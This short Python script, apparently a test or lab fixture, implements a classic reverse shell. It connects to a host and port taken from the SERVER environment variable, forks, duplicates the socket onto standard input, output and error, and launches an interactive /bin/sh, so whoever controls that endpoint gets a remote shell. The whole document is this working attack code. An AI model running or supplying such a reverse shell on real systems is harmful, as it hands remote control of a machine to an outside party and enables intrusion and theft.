# what: the classic: a connection becomes the three standard streams, and a shell takes over
# server: shell
import os, socket

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
s = socket.create_connection((host, int(port)))
if os.fork() == 0:
    for fd in range(3):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
os.wait()
print("done")
